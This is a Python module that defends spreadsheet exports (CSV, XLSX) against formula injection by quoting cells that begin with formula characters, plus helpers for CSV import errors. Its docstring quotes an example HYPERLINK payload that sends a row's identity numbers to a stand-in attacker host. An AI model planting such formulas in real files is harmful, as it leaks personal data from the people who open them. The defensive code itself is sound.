"""Cells of the files people open in a spreadsheet (CSV, XLSX): nothing typed into the service
runs there as a formula.

A project name such as ``=HYPERLINK("http://evil.example/?x="&J2,"点击查看")`` would otherwise be
a live formula in the auditor's Excel or WPS: it can send the row's other cells (身份证 numbers,
names) to another site, or run commands through DDE. The controls (OWASP, "CSV Injection"):

* CSV: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
  prefixed with a single quote (``'=HYPERLINK(…)``), which spreadsheets show as text;
  :func:`neutralise` in Python and :func:`neutralised_sql` for cells the database formats
  itself (PostgreSQL's ``COPY``).
* XLSX: every text cell is stored as a string (``t="inlineStr"``), never a formula
  (:func:`xlsx_row`); one that begins with those characters also carries Excel's
  ``quotePrefix``, so it stays text when someone edits it.

Numbers and dates the service computes (rents, areas, days) stay numbers and dates: only text
is touched.

Reading CSV files people upload (units, registry imports): a line the ``csv`` module cannot read
(a field over ``csv.field_size_limit()``, an unbalanced quote) is refused with its line number and
:func:`csv_problem`'s message, never a 500.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl.cell import WriteOnlyCell
from sqlalchemy import String, case, func, literal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet cell that cannot run: text beginning with a formula character
    gets a leading ``'``; anything else (numbers, dates, None, other text) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV text, every cell through :func:`neutralise`."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([neutralise(cell) for cell in row] for row in rows)
    return buffer.getvalue()


def xlsx_row(sheet: Any, cells: Sequence[Any]) -> list[Any]:
    """A row for a write-only worksheet: text as string cells (never a formula), the rest as is."""
    row: list[Any] = []
    for value in cells:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"  # openpyxl made text beginning with "=" a formula
            if value.startswith(FORMULA_TRIGGERS):
                cell.quotePrefix = True
            row.append(cell)
        else:
            row.append(value)
    return row


def csv_problem(exc: csv.Error) -> str:
    """What is wrong with a line the ``csv`` module could not read, in Chinese."""
    if "field larger than field limit" in str(exc):
        return f"某一字段超过 {csv.field_size_limit():,} 个字符，不是有效的数据行"
    return "不是有效的 CSV 数据行（引号或换行不配对）"


def neutralised_sql(text: Any) -> Any:
    """The SQL of :func:`neutralise` for a text column or expression (NULL stays NULL)."""
    quoted = literal("'", String()).concat(text)
    return case((func.substr(text, 1, 1).in_(FORMULA_TRIGGERS), quoted), else_=text)
